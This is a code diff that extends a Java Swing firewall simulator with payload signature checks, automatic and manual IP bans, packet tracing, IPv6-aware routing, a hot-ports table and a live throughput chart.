@@ -3,9 +3,14 @@ import javax.swing.border.*;
 import javax.swing.table.*;
 import java.awt.*;
 import java.awt.event.*;
+import java.io.IOException;
+import java.nio.ByteBuffer;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.*;
 import java.text.SimpleDateFormat;
 import java.util.*;
 import java.util.List;
+import java.util.function.Consumer;
 
 // Packet class for tracking network traffic
 class Packet {
@@ -41,71 +46,304 @@ class FirewallRule {
 
 // Firewall Simulator Engine
 class FirewallSimulator {
-    private List<FirewallRule> rules;
-    private List<Packet> trafficLog;
+    static final String SNAPSHOT_FILE = "firewall_rules.bin";
+    static final String RULES_FILE = "firewall_rules.txt";
+
+    private volatile RuleIndex rules;
+    // Checked before the rules for packets with a payload; blocks any built-in signature by default
+    private volatile PayloadRules payloadRules = PayloadRules.empty(SignatureMatcher.defaults()).add("BLOCK", "ANY", "ANY", "ANY");
+    private Path rulesSource = Paths.get(RULES_FILE);
+    // Columnar history of every packet; the counters below feed the live labels
+    private final TrafficStore traffic = new TrafficStore();
+    // Per-second counts for the live chart, five minutes deep
+    private final TrafficSeries series = new TrafficSeries(300);
+    // Allow/block counts per destination port and per protocol
+    private final PortCounters counters = new PortCounters();
+    // Sampled decision traces for the log tab; off until configured
+    private final PacketTracer tracer = new PacketTracer(1000);
     private int totalPackets;
     private int allowedPackets;
     private int blockedPackets;
     private SimpleDateFormat timeFormat;
     
+    // Threat detection: sources blocked THREAT_THRESHOLD times are banned for a while
+    static final int THREAT_THRESHOLD = 3;
+    private final Map<String, Integer> threatCount = new HashMap<>();
+    private final BanList bans = new BanList(10_000, 5 * 60_000);
+    private Consumer<BanList.Entry> banListener = e -> { };
+    
     public FirewallSimulator() {
-        rules = new ArrayList<>();
-        trafficLog = new ArrayList<>();
         timeFormat = new SimpleDateFormat("HH:mm:ss");
         
-        // Add default rule from image
-        rules.add(new FirewallRule("HTTP", "60", "BLOCK"));
+        // Saved policy if there is one, otherwise the default rule from image
+        rules = loadSavedRules();
+        if (rules == null) {
+            rules = new RuleIndex.Builder().add("HTTP", 60, false).build();
+        }
         
+        // The blocked packet from image
+        Calendar seen = Calendar.getInstance();
+        seen.set(Calendar.HOUR_OF_DAY, 9);
+        seen.set(Calendar.MINUTE, 3);
+        seen.set(Calendar.SECOND, 8);
+        traffic.append(seen.getTimeInMillis(), "HTTP", "172.16.0.10", "172.16.0.26", 60, "BLOCK");
+        counters.record("HTTP", 60, true);
         totalPackets = 1;
         allowedPackets = 0;
         blockedPackets = 1;
     }
     
-    public void addRule(String protocol, String port, String action) {
-        rules.add(new FirewallRule(protocol, port, action));
+    private RuleIndex loadSavedRules() {
+        for (String name : new String[]{SNAPSHOT_FILE, RULES_FILE}) {
+            Path path = Paths.get(name);
+            if (!Files.exists(path)) continue;
+            try {
+                RuleIndex loaded = RuleText.load(path);
+                rulesSource = path;
+                return loaded;
+            } catch (IOException e) {
+                System.err.println("Ignoring " + name + ": " + e.getMessage());
+            }
+        }
+        return null;
     }
     
-    public void removeRule(int index) {
+    public synchronized void addRule(String protocol, String port, String action) {
+        rules = rules.toBuilder().add(protocol, Integer.parseInt(port), action.equals("ALLOW")).build();
+    }
+    
+    public synchronized void removeRule(int index) {
         if (index >= 0 && index < rules.size()) {
-            rules.remove(index);
+            RuleIndex.Builder builder = rules.toBuilder();
+            builder.removeAt(index);
+            rules = builder.build();
         }
     }
     
     public List<FirewallRule> getRules() {
-        return new ArrayList<>(rules);
+        RuleIndex current = rules;
+        List<FirewallRule> list = new ArrayList<>(current.size());
+        for (int i = 0; i < current.size(); i++) {
+            list.add(new FirewallRule(current.protocol(i), String.valueOf(current.port(i)),
+                    current.allows(i) ? "ALLOW" : "BLOCK"));
+        }
+        return list;
+    }
+    
+    public RuleIndex getRuleIndex() {
+        return rules;
+    }
+    
+    public synchronized void setRuleIndex(RuleIndex compiled) {
+        rules = compiled;
+    }
+    
+    // File the current rules came from; watched for hot reloads
+    public Path getRulesSource() {
+        return rulesSource;
+    }
+    
+    public void setRulesSource(Path path) {
+        rulesSource = path;
+    }
+    
+    public PayloadRules getPayloadRules() {
+        return payloadRules;
+    }
+    
+    public void setPayloadRules(PayloadRules rules) {
+        payloadRules = rules;
+    }
+    
+    // Name of the first built-in signature the payload contains, null if none
+    public String matchedSignature(ByteBuffer payload) {
+        SignatureMatcher signatures = payloadRules.signatures();
+        int id = signatures.firstMatch(payload, payload.position(), payload.limit());
+        return id == SignatureMatcher.NO_MATCH ? null : signatures.name(id);
     }
     
     public String sendPacket(String protocol, String srcIP, String destIP, String port) {
-        String time = timeFormat.format(new Date());
+        return sendPacket(protocol, srcIP, destIP, port, null);
+    }
+    
+    public String sendPacket(String protocol, String srcIP, String destIP, String port, ByteBuffer payload) {
+        long now = System.currentTimeMillis();
+        // Stage timings are only taken while tracing is on
+        boolean tracing = tracer.enabled();
+        long[] marks = tracing ? new long[PacketTracer.STAGES.length + 1] : null;
+        if (tracing) marks[0] = System.nanoTime();
         String status = "ALLOWED";
+        RuleIndex current = rules;
+        int rule = RuleIndex.NO_MATCH;
+        boolean banned = bans.isBanned(srcIP), banTriggered = false;
+        if (tracing) marks[1] = System.nanoTime();
+        
+        PayloadRules dpi = payloadRules;
+        long[] seen = null;
+        int payloadRule = PayloadRules.NO_MATCH;
+        if (!banned && payload != null) {
+            seen = dpi.scratch();
+            payloadRule = dpi.match(protocol, parsePort(port), payload, seen);
+        }
         
-        // Check rules - exact match
-        for (FirewallRule rule : rules) {
-            if (rule.protocol.equalsIgnoreCase(protocol) && rule.port.equals(port)) {
-                status = rule.action;
-                break;
+        if (payloadRule != PayloadRules.NO_MATCH) {
+            status = dpi.allows(payloadRule) ? "ALLOW" : "BLOCK";
+        } else if (!banned) {
+            // Check rules - first exact match via the compiled index
+            rule = current.match(protocol, parsePort(port));
+            if (rule != RuleIndex.NO_MATCH) {
+                status = current.allows(rule) ? "ALLOW" : "BLOCK";
             }
+        } else {
+            // Banned sources are dropped before any rule is looked at
+            status = "BANNED";
+        }
+        if (tracing) marks[2] = System.nanoTime();
+        if (status.equals("BLOCK")) {
+            banTriggered = detectThreat(srcIP);
+        }
+        if (tracing) marks[3] = System.nanoTime();
+        boolean blocked = status.equals("BLOCK") || status.equals("BANNED");
+        String route = blocked ? null : route(destIP);
+        if (tracing) marks[4] = System.nanoTime();
+        
+        traffic.append(now, protocol, srcIP, destIP, parsePort(port), status);
+        series.record(now, protocol, blocked);
+        counters.record(protocol, parsePort(port), blocked);
+        
+        if (tracing) {
+            marks[5] = System.nanoTime();
+            long[] stageNanos = new long[PacketTracer.STAGES.length];
+            for (int i = 0; i < stageNanos.length; i++) stageNanos[i] = marks[i + 1] - marks[i];
+            String reason;
+            if (banned) reason = "source is banned";
+            else if (payloadRule != PayloadRules.NO_MATCH) reason = "payload matched signature " + dpi.matchedSignature(payloadRule, seen);
+            else if (rule == RuleIndex.NO_MATCH) reason = "no rule for " + protocol + ":" + port + ", default allow";
+            else reason = "matched " + (current.allows(rule) ? "ALLOW " : "BLOCK ") + current.protocol(rule) + " " + current.port(rule);
+            if (banTriggered) reason += "; source auto-banned after " + THREAT_THRESHOLD + " blocks";
+            tracer.offer(new PacketTracer.Trace(now, protocol, srcIP, destIP, parsePort(port), status,
+                    rule, route, reason, stageNanos));
         }
-        
-        Packet packet = new Packet(time, protocol, srcIP, destIP, port, status);
-        trafficLog.add(0, packet); // Add to beginning for reverse chronological order
         
         totalPackets++;
-        if (status.equals("ALLOWED")) {
-            allowedPackets++;
-        } else {
+        if (blocked) {
             blockedPackets++;
+        } else {
+            allowedPackets++;
         }
         
         return status;
     }
     
-    public List<Packet> getTrafficLog() {
-        return new ArrayList<>(trafficLog);
+    // Returns true when this block got the source banned
+    private boolean detectThreat(String srcIP) {
+        int count = threatCount.merge(srcIP, 1, Integer::sum);
+        if (count >= THREAT_THRESHOLD) {
+            threatCount.remove(srcIP);
+            banListener.accept(bans.ban(srcIP, count + " blocked attempts"));
+            return true;
+        }
+        return false;
+    }
+    
+    // Longest-prefix match over the routing table shown by "View Routing Table"
+    static final String[][] ROUTES = {
+        {"10.0.0.0/8", "Internal Network"},
+        {"33.0.0.0/8", "Internet Gateway"},
+        {"172.16.0.0/16", "Corporate Network"},
+        {"192.168.0.0/16", "Private Network"},
+        {"fd00::/8", "Internal Network"},
+        {"fd00:172:16::/48", "Corporate Network"},
+        {"fe80::/10", "Private Network"},
+        {"::/0", "Default Route"},
+        {"0.0.0.0/0", "Default Route"}
+    };
+    
+    private static final long[] ROUTE_NETWORKS = new long[ROUTES.length];
+    private static final int[] ROUTE_LENGTHS = new int[ROUTES.length];
+    // IPv6 rows by longest prefix; values are row numbers
+    private static final IPv6Trie ROUTES6 = new IPv6Trie();
+    static {
+        long[] network = new long[2];
+        for (int i = 0; i < ROUTES.length; i++) {
+            int slash = ROUTES[i][0].indexOf('/');
+            ROUTE_LENGTHS[i] = Integer.parseInt(ROUTES[i][0].substring(slash + 1));
+            if (ROUTES[i][0].indexOf(':') >= 0) {
+                ROUTE_NETWORKS[i] = IPv4.INVALID;
+                IPv6.parsePrefix(ROUTES[i][0], 0, ROUTES[i][0].length(), network);
+                ROUTES6.put(network[0], network[1], ROUTE_LENGTHS[i], i);
+            } else {
+                ROUTE_NETWORKS[i] = IPv4.parse(ROUTES[i][0], 0, slash);
+            }
+        }
+    }
+    
+    static String route(String destIP) {
+        if (destIP.indexOf(':') >= 0) {
+            int row = ROUTES6.lookup(destIP);
+            return ROUTES[row == IPv6Trie.NOT_FOUND ? ROUTES.length - 1 : row][1];
+        }
+        long ip = IPv4.parse(destIP);
+        String best = ROUTES[ROUTES.length - 1][1];
+        int bestLength = -1;
+        for (int i = 0; i < ROUTES.length && ip != IPv4.INVALID; i++) {
+            int length = ROUTE_LENGTHS[i];
+            long mask = length == 0 ? 0 : (0xffffffffL << (32 - length)) & 0xffffffffL;
+            if ((ip & mask) == ROUTE_NETWORKS[i] && length > bestLength) {
+                best = ROUTES[i][1];
+                bestLength = length;
+            }
+        }
+        return best;
+    }
+    
+    public PacketTracer getTracer() {
+        return tracer;
+    }
+    
+    public BanList getBans() {
+        return bans;
+    }
+    
+    public void setBanListener(Consumer<BanList.Entry> listener) {
+        banListener = listener;
+    }
+    
+    private static int parsePort(String port) {
+        try {
+            return Integer.parseInt(port.trim());
+        } catch (NumberFormatException e) {
+            return -1;
+        }
+    }
+    
+    // The newest packets first, materialised from the store
+    public List<Packet> getRecentTraffic(int limit) {
+        int size = traffic.size();
+        List<Packet> recent = new ArrayList<>(Math.min(limit, size));
+        for (int row = size - 1; row >= 0 && recent.size() < limit; row--) {
+            recent.add(new Packet(timeFormat.format(new Date(traffic.time(row))), traffic.protocol(row),
+                    traffic.source(row), traffic.dest(row), String.valueOf(traffic.port(row)), traffic.status(row)));
+        }
+        return recent;
+    }
+    
+    public TrafficStore getTraffic() {
+        return traffic;
+    }
+    
+    public TrafficSeries getSeries() {
+        return series;
+    }
+    
+    public PortCounters getCounters() {
+        return counters;
     }
     
     public void clearTrafficLog() {
-        trafficLog.clear();
+        traffic.clear();
+        counters.clear();
+        series.clear();
         totalPackets = 0;
         allowedPackets = 0;
         blockedPackets = 0;
@@ -119,16 +357,80 @@ class FirewallSimulator {
     }
 }
 
+// Live throughput chart: packets per second as bars (blocked part in red) and
+// the block rate as a line, over the last minute. It only reads the per-second
+// series when repainted, so a busy firewall costs it nothing between frames.
+@SuppressWarnings("serial")
+class ThroughputChart extends JComponent {
+    static final int SECONDS = 60;
+    
+    private final TrafficSeries series;
+    private final long[] totals = new long[SECONDS];
+    private final long[] blocked = new long[SECONDS];
+    
+    ThroughputChart(TrafficSeries series) {
+        this.series = series;
+        setPreferredSize(new Dimension(240, 60));
+        setFont(new Font("Segoe UI", Font.PLAIN, 11));
+    }
+    
+    @Override
+    protected void paintComponent(Graphics g) {
+        long now = System.currentTimeMillis();
+        series.snapshot(now, totals, blocked);
+        int w = getWidth(), h = getHeight();
+        g.setColor(Color.WHITE);
+        g.fillRect(0, 0, w, h);
+        
+        long max = 1;
+        for (long t : totals) max = Math.max(max, t);
+        float bar = w / (float) SECONDS;
+        for (int i = 0; i < SECONDS; i++) {
+            int x = Math.round(i * bar), bw = Math.max(1, Math.round((i + 1) * bar) - x - 1);
+            int th = (int) (totals[i] * (h - 14) / max);
+            int bh = (int) (blocked[i] * (h - 14) / max);
+            g.setColor(new Color(0, 120, 212, 90));
+            g.fillRect(x, h - th, bw, th - bh);
+            g.setColor(new Color(220, 53, 69, 160));
+            g.fillRect(x, h - bh, bw, bh);
+        }
+        
+        // Block rate, 0-100% over the full height
+        g.setColor(new Color(220, 53, 69));
+        int px = -1, py = -1;
+        for (int i = 0; i < SECONDS; i++) {
+            if (totals[i] == 0) {
+                px = -1;
+                continue;
+            }
+            int x = Math.round((i + 0.5f) * bar);
+            int y = h - 1 - (int) (blocked[i] * (h - 15) / totals[i]);
+            if (px >= 0) g.drawLine(px, py, x, y);
+            px = x;
+            py = y;
+        }
+        
+        // The last complete second
+        long last = totals[SECONDS - 2];
+        g.setColor(Color.DARK_GRAY);
+        g.drawString(String.format("%d pkt/s  %.0f%% blocked  peak %d", last,
+                last > 0 ? blocked[SECONDS - 2] * 100.0 / last : 0.0, max), 2, 11);
+    }
+}
+
 // Main UI Class
+@SuppressWarnings("serial")
 public class NetworkFirewallSimulator extends JFrame {
     private FirewallSimulator firewall;
     private DefaultTableModel rulesModel;
     private DefaultTableModel trafficModel;
     private SimpleDateFormat timeFormat;
+    private RuleFileWatcher ruleWatcher;
     
     // UI Components
     private JLabel totalLabel, allowedLabel, blockedLabel, blockRateLabel;
-    private JTable rulesTable, trafficTable;
+    private JTable rulesTable, trafficTable, bansTable;
+    private DefaultTableModel bansModel, portsModel;
     private JTextArea logArea;
     
     public NetworkFirewallSimulator() {
@@ -144,6 +446,12 @@ public class NetworkFirewallSimulator extends JFrame {
         initializeComponents();
         loadInitialData();
         updateStatistics();
+        watchRules(firewall.getRulesSource());
+        firewall.setBanListener(e -> {
+            appendLog("Auto-Ban: " + e.source + " after " + e.reason + " for "
+                + firewall.getBans().defaultTtlMillis() / 60_000 + " min");
+            refreshBans();
+        });
         
         setLocationRelativeTo(null);
         setVisible(true);
@@ -187,6 +495,14 @@ public class NetworkFirewallSimulator extends JFrame {
         JPanel logTab = createLogTab();
         tabbedPane.addTab("System Log", logTab);
         
+        // Banned Sources Tab
+        JPanel bansTab = createBansTab();
+        tabbedPane.addTab("Banned Sources", bansTab);
+        
+        // Hot Ports Tab
+        JPanel portsTab = createPortsTab();
+        tabbedPane.addTab("Hot Ports", portsTab);
+        
         mainPanel.add(tabbedPane, BorderLayout.CENTER);
         
         // Control Panel - ONLY BUTTONS, no input fields
@@ -211,6 +527,22 @@ public class NetworkFirewallSimulator extends JFrame {
         panel.add(createStatPanel(blockedLabel, "Blocked"));
         panel.add(createStatPanel(blockRateLabel, "Block Rate"));
         
+        // Throughput over the last minute, redrawn once a second
+        ThroughputChart chart = new ThroughputChart(firewall.getSeries());
+        JPanel chartPanel = new JPanel(new BorderLayout(0, 5));
+        chartPanel.setBackground(Color.WHITE);
+        chartPanel.setBorder(BorderFactory.createCompoundBorder(
+            BorderFactory.createLineBorder(new Color(200, 200, 200), 1),
+            BorderFactory.createEmptyBorder(5, 5, 5, 5)
+        ));
+        JLabel chartTitle = new JLabel("Throughput (60s)", SwingConstants.CENTER);
+        chartTitle.setFont(new Font("Segoe UI", Font.PLAIN, 12));
+        chartTitle.setForeground(Color.DARK_GRAY);
+        chartPanel.add(chart, BorderLayout.CENTER);
+        chartPanel.add(chartTitle, BorderLayout.SOUTH);
+        panel.add(chartPanel);
+        new javax.swing.Timer(1000, e -> chart.repaint()).start();
+        
         return panel;
     }
     
@@ -331,7 +663,10 @@ public class NetworkFirewallSimulator extends JFrame {
                 
                 if (value != null) {
                     String status = value.toString();
-                    if (status.contains("BLOCKED") || status.equals("BLOCK")) {
+                    if (status.equals("BANNED")) {
+                        c.setForeground(new Color(142, 68, 173));
+                        ((JLabel) c).setText("⛔ BANNED");
+                    } else if (status.contains("BLOCKED") || status.equals("BLOCK")) {
                         c.setForeground(Color.RED);
                         ((JLabel) c).setText("✗ BLOCKED");
                     } else if (status.contains("ALLOWED") || status.equals("ALLOW")) {
@@ -377,9 +712,225 @@ public class NetworkFirewallSimulator extends JFrame {
         
         panel.add(scrollPane, BorderLayout.CENTER);
         
+        // Decision tracing ("explain" mode)
+        JPanel buttons = new JPanel(new FlowLayout(FlowLayout.LEFT, 10, 0));
+        buttons.setBackground(Color.WHITE);
+        JButton traceButton = createModernButton("Tracing...");
+        JButton showButton = createModernButton("Show Traces");
+        JButton clearButton = createModernButton("Clear Traces");
+        traceButton.addActionListener(e -> configureTracing());
+        showButton.addActionListener(e -> showTraces());
+        clearButton.addActionListener(e -> {
+            firewall.getTracer().clear();
+            appendLog("Traces Cleared");
+        });
+        buttons.add(traceButton);
+        buttons.add(showButton);
+        buttons.add(clearButton);
+        panel.add(buttons, BorderLayout.SOUTH);
+        
+        return panel;
+    }
+    
+    private void configureTracing() {
+        JPanel panel = new JPanel(new GridLayout(3, 2, 10, 10));
+        JTextField everyField = new JTextField("100");
+        JTextField filterField = new JTextField("status=BLOCK");
+        panel.add(new JLabel("Trace 1 in N packets (0 = none):"));
+        panel.add(everyField);
+        panel.add(new JLabel("and every packet matching:"));
+        panel.add(filterField);
+        panel.add(new JLabel("e.g. src=203.0.113.0/24 proto=HTTP port=80"));
+        panel.add(new JLabel("Currently: " + firewall.getTracer().describe()));
+        
+        int result = JOptionPane.showConfirmDialog(this, panel, "Packet Tracing",
+                JOptionPane.OK_CANCEL_OPTION, JOptionPane.PLAIN_MESSAGE);
+        if (result != JOptionPane.OK_OPTION) return;
+        try {
+            int every = Integer.parseInt(everyField.getText().trim());
+            firewall.getTracer().configure(every, filterField.getText());
+            appendLog("Tracing: " + firewall.getTracer().describe());
+        } catch (IllegalArgumentException e) {
+            JOptionPane.showMessageDialog(this, "Invalid tracing settings: " + e.getMessage(),
+                "Error", JOptionPane.ERROR_MESSAGE);
+        }
+    }
+    
+    private void showTraces() {
+        List<PacketTracer.Trace> traces = firewall.getTracer().recent(50);
+        appendLog("Packet Traces (" + firewall.getTracer().describe() + "), newest first: " + traces.size());
+        for (PacketTracer.Trace t : traces) {
+            logArea.append(t + "\n");
+        }
+        logArea.setCaretPosition(logArea.getDocument().getLength());
+    }
+    
+    private JPanel createBansTab() {
+        JPanel panel = new JPanel(new BorderLayout(10, 10));
+        panel.setBackground(Color.WHITE);
+        panel.setBorder(BorderFactory.createEmptyBorder(15, 15, 15, 15));
+        
+        String[] columns = {"Source IP", "Reason", "Expires In", "Dropped Packets"};
+        bansModel = new DefaultTableModel(columns, 0) {
+            @Override
+            public boolean isCellEditable(int row, int column) {
+                return false;
+            }
+        };
+        
+        bansTable = new JTable(bansModel);
+        bansTable.setFont(new Font("Segoe UI", Font.PLAIN, 13));
+        bansTable.setRowHeight(28);
+        bansTable.getTableHeader().setFont(new Font("Segoe UI", Font.BOLD, 14));
+        bansTable.getTableHeader().setBackground(new Color(240, 240, 240));
+        bansTable.getTableHeader().setForeground(Color.DARK_GRAY);
+        bansTable.setGridColor(new Color(220, 220, 220));
+        bansTable.setShowGrid(true);
+        
+        DefaultTableCellRenderer centerRenderer = new DefaultTableCellRenderer();
+        centerRenderer.setHorizontalAlignment(SwingConstants.CENTER);
+        for (int i = 0; i < bansTable.getColumnCount(); i++) {
+            bansTable.getColumnModel().getColumn(i).setCellRenderer(centerRenderer);
+        }
+        
+        JScrollPane scrollPane = new JScrollPane(bansTable);
+        scrollPane.setBorder(BorderFactory.createLineBorder(new Color(200, 200, 200)));
+        panel.add(scrollPane, BorderLayout.CENTER);
+        
+        JPanel buttons = new JPanel(new FlowLayout(FlowLayout.LEFT, 10, 0));
+        buttons.setBackground(Color.WHITE);
+        JButton banButton = createModernButton("Ban IP...");
+        JButton unbanButton = createModernButton("Unban Selected");
+        JButton clearButton = createModernButton("Unban All");
+        banButton.addActionListener(e -> banSource());
+        unbanButton.addActionListener(e -> unbanSelected());
+        clearButton.addActionListener(e -> {
+            firewall.getBans().clear();
+            appendLog("Bans Cleared: all sources unbanned");
+            refreshBans();
+        });
+        buttons.add(banButton);
+        buttons.add(unbanButton);
+        buttons.add(clearButton);
+        panel.add(buttons, BorderLayout.SOUTH);
+        
+        // Expiry countdown; the sweep also drops entries that have run out
+        new javax.swing.Timer(1000, e -> refreshBans()).start();
+        
+        return panel;
+    }
+    
+    private JPanel createPortsTab() {
+        JPanel panel = new JPanel(new BorderLayout(10, 10));
+        panel.setBackground(Color.WHITE);
+        panel.setBorder(BorderFactory.createEmptyBorder(15, 15, 15, 15));
+        
+        String[] columns = {"Port", "Allowed", "Blocked", "Total", "Block Rate %"};
+        portsModel = new DefaultTableModel(columns, 0) {
+            @Override
+            public boolean isCellEditable(int row, int column) {
+                return false;
+            }
+            
+            // Numeric columns so the header sorts by value, not text
+            @Override
+            public Class<?> getColumnClass(int column) {
+                return column == 0 ? Integer.class : column == 4 ? Double.class : Long.class;
+            }
+        };
+        
+        JTable portsTable = new JTable(portsModel);
+        portsTable.setAutoCreateRowSorter(true);
+        portsTable.setFont(new Font("Segoe UI", Font.PLAIN, 13));
+        portsTable.setRowHeight(28);
+        portsTable.getTableHeader().setFont(new Font("Segoe UI", Font.BOLD, 14));
+        portsTable.getTableHeader().setBackground(new Color(240, 240, 240));
+        portsTable.getTableHeader().setForeground(Color.DARK_GRAY);
+        portsTable.setGridColor(new Color(220, 220, 220));
+        portsTable.setShowGrid(true);
+        
+        JScrollPane scrollPane = new JScrollPane(portsTable);
+        scrollPane.setBorder(BorderFactory.createLineBorder(new Color(200, 200, 200)));
+        panel.add(scrollPane, BorderLayout.CENTER);
+        
+        // Only redrawn while the tab is showing; the counters themselves never wait on the UI
+        new javax.swing.Timer(1000, e -> {
+            if (panel.isShowing()) refreshPorts();
+        }).start();
+        
         return panel;
     }
     
+    private void refreshPorts() {
+        portsModel.setRowCount(0);
+        for (PortCounters.Row r : firewall.getCounters().hotPorts(200)) {
+            portsModel.addRow(new Object[]{
+                Integer.parseInt(r.key), r.allowed, r.blocked, r.total(), Math.round(r.blockRate() * 10) / 10.0
+            });
+        }
+    }
+    
+    private void refreshBans() {
+        BanList bans = firewall.getBans();
+        bans.sweep();
+        long now = System.currentTimeMillis();
+        String selected = bansTable.getSelectedRow() >= 0
+            ? (String) bansModel.getValueAt(bansTable.getSelectedRow(), 0) : null;
+        bansModel.setRowCount(0);
+        for (BanList.Entry e : bans.entries()) {
+            long secs = e.remainingMillis(now) / 1000;
+            bansModel.addRow(new Object[]{
+                e.source, e.reason, String.format("%d:%02d", secs / 60, secs % 60), e.dropped.get()
+            });
+            if (e.source.equals(selected)) {
+                bansTable.setRowSelectionInterval(bansModel.getRowCount() - 1, bansModel.getRowCount() - 1);
+            }
+        }
+    }
+    
+    private void banSource() {
+        JPanel panel = new JPanel(new GridLayout(2, 2, 10, 10));
+        JTextField ipField = new JTextField();
+        JTextField minutesField = new JTextField(String.valueOf(firewall.getBans().defaultTtlMillis() / 60_000));
+        panel.add(new JLabel("Source IP:"));
+        panel.add(ipField);
+        panel.add(new JLabel("Duration (minutes):"));
+        panel.add(minutesField);
+        
+        int result = JOptionPane.showConfirmDialog(this, panel, "Ban Source",
+                JOptionPane.OK_CANCEL_OPTION, JOptionPane.PLAIN_MESSAGE);
+        if (result != JOptionPane.OK_OPTION) return;
+        
+        String ip = ipField.getText().trim();
+        if (!isValidIP(ip)) {
+            JOptionPane.showMessageDialog(this, "Invalid IP address format!\nExample: 203.0.113.7", "Error", JOptionPane.ERROR_MESSAGE);
+            return;
+        }
+        int minutes;
+        try {
+            minutes = Integer.parseInt(minutesField.getText().trim());
+            if (minutes < 1) throw new NumberFormatException();
+        } catch (NumberFormatException e) {
+            JOptionPane.showMessageDialog(this, "Duration must be a positive number of minutes!", "Error", JOptionPane.ERROR_MESSAGE);
+            return;
+        }
+        firewall.getBans().ban(ip, "manual", minutes * 60_000L);
+        appendLog("Source Banned: " + ip + " for " + minutes + " min (manual)");
+        refreshBans();
+    }
+    
+    private void unbanSelected() {
+        int row = bansTable.getSelectedRow();
+        if (row < 0) {
+            JOptionPane.showMessageDialog(this, "Please select a banned source to unban.", "No Selection", JOptionPane.WARNING_MESSAGE);
+            return;
+        }
+        String ip = (String) bansModel.getValueAt(row, 0);
+        firewall.getBans().unban(ip);
+        appendLog("Source Unbanned: " + ip);
+        refreshBans();
+    }
+    
     private JPanel createControlPanel() {
         JPanel panel = new JPanel();
         panel.setBackground(new Color(245, 245, 245));
@@ -393,7 +944,7 @@ public class NetworkFirewallSimulator extends JFrame {
         String[] buttonLabels = {
             "Add Rule", "Remove Rule", "View Rules", "Send Packet",
             "View Routing Table", "Simulate Attack", "Export Rules",
-            "Statistics", "Clear Log"
+            "Import Rules", "Statistics", "Clear Log"
         };
         
         for (String label : buttonLabels) {
@@ -443,8 +994,8 @@ public class NetworkFirewallSimulator extends JFrame {
         rulesModel.setRowCount(0);
         trafficModel.setRowCount(0);
         
-        // Load initial rule from image
-        rulesModel.addRow(new Object[]{"HTTP", "60", "BLOCK"});
+        // Load rules from the engine (saved policy or the default rule from image)
+        reloadRulesTable();
         
         // Load initial traffic from image
         trafficModel.addRow(new Object[]{"09:03:08", "HTTP", "BLOCKED"});
@@ -463,6 +1014,13 @@ public class NetworkFirewallSimulator extends JFrame {
         logArea.setCaretPosition(0);
     }
     
+    private void reloadRulesTable() {
+        rulesModel.setRowCount(0);
+        for (FirewallRule rule : firewall.getRules()) {
+            rulesModel.addRow(new Object[]{rule.protocol, rule.port, rule.action});
+        }
+    }
+    
     private void updateStatistics() {
         totalLabel.setText(String.valueOf(firewall.getTotalPackets()));
         allowedLabel.setText(String.valueOf(firewall.getAllowedPackets()));
@@ -493,6 +1051,9 @@ public class NetworkFirewallSimulator extends JFrame {
             case "Export Rules":
                 exportRules();
                 break;
+            case "Import Rules":
+                importRules();
+                break;
             case "Statistics":
                 showStatistics();
                 break;
@@ -606,12 +1167,13 @@ public class NetworkFirewallSimulator extends JFrame {
     
     private void sendPacket() {
         // Create a dialog for packet details
-        JPanel panel = new JPanel(new GridLayout(4, 2, 10, 10));
+        JPanel panel = new JPanel(new GridLayout(5, 2, 10, 10));
         
         JTextField protocolField = new JTextField("HTTP");
         JTextField srcIPField = new JTextField("192.168.1.1");
         JTextField destIPField = new JTextField("10.0.0.1");
         JTextField portField = new JTextField("80");
+        JTextField payloadField = new JTextField();
         
         panel.add(new JLabel("Protocol (e.g., HTTP, TCP):"));
         panel.add(protocolField);
@@ -621,6 +1183,8 @@ public class NetworkFirewallSimulator extends JFrame {
         panel.add(destIPField);
         panel.add(new JLabel("Port (1-65535):"));
         panel.add(portField);
+        panel.add(new JLabel("Payload (optional):"));
+        panel.add(payloadField);
         
         int result = JOptionPane.showConfirmDialog(this, panel, "Send Packet",
                 JOptionPane.OK_CANCEL_OPTION, JOptionPane.PLAIN_MESSAGE);
@@ -630,6 +1194,8 @@ public class NetworkFirewallSimulator extends JFrame {
             String srcIP = srcIPField.getText().trim();
             String destIP = destIPField.getText().trim();
             String port = portField.getText().trim();
+            String payloadText = payloadField.getText();
+            ByteBuffer payload = payloadText.isEmpty() ? null : ByteBuffer.wrap(payloadText.getBytes(StandardCharsets.UTF_8));
             
             // Validate inputs
             if (protocol.isEmpty()) {
@@ -655,14 +1221,14 @@ public class NetworkFirewallSimulator extends JFrame {
             // Validate IP addresses
             if (!isValidIP(srcIP)) {
                 JOptionPane.showMessageDialog(this, 
-                    "Invalid Source IP address format!\nExample: 192.168.1.1", 
+                    "Invalid Source IP address format!\nExample: 192.168.1.1 or 2001:db8::1", 
                     "Error", JOptionPane.ERROR_MESSAGE);
                 return;
             }
             
             if (!isValidIP(destIP)) {
                 JOptionPane.showMessageDialog(this, 
-                    "Invalid Destination IP address format!\nExample: 10.0.0.1", 
+                    "Invalid Destination IP address format!\nExample: 10.0.0.1 or fd00::1", 
                     "Error", JOptionPane.ERROR_MESSAGE);
                 return;
             }
@@ -684,7 +1250,8 @@ public class NetworkFirewallSimulator extends JFrame {
             }
             
             // Send packet through firewall
-            String status = firewall.sendPacket(protocol, srcIP, destIP, port);
+            String status = firewall.sendPacket(protocol, srcIP, destIP, port, payload);
+            String signature = payload == null ? null : firewall.matchedSignature(payload);
             
             // Add to traffic table
             String time = timeFormat.format(new Date());
@@ -696,19 +1263,25 @@ public class NetworkFirewallSimulator extends JFrame {
             
             // Log with full details
             logArea.append("[" + time + "] Packet Sent: " + srcIP + " → " + 
-                         destIP + " | " + protocol + ":" + port + " [" + status + "]\n");
+                         destIP + " | " + protocol + ":" + port + " [" + status + "]"
+                         + (signature == null ? "" : " signature: " + signature) + "\n");
             logArea.setCaretPosition(logArea.getDocument().getLength());
             
             updateStatistics();
             
             // Show result in dialog
+            boolean forwarded = status.equals("ALLOWED") || status.equals("ALLOW");
             String message = String.format("📦 Packet Sent Successfully!\n\n" +
                 "Source:      %s\n" +
                 "Destination: %s\n" +
                 "Protocol:    %s\n" +
                 "Port:        %s\n" +
-                "Status:      %s",
-                srcIP, destIP, protocol, port, status);
+                "Status:      %s\n" +
+                "Route:       %s\n" +
+                "Signature:   %s",
+                srcIP, destIP, protocol, port, status,
+                forwarded ? FirewallSimulator.route(destIP) : "-",
+                signature == null ? "-" : signature);
             
             int messageType = status.equals("ALLOWED") ? 
                 JOptionPane.INFORMATION_MESSAGE : JOptionPane.WARNING_MESSAGE;
@@ -728,6 +1301,10 @@ public class NetworkFirewallSimulator extends JFrame {
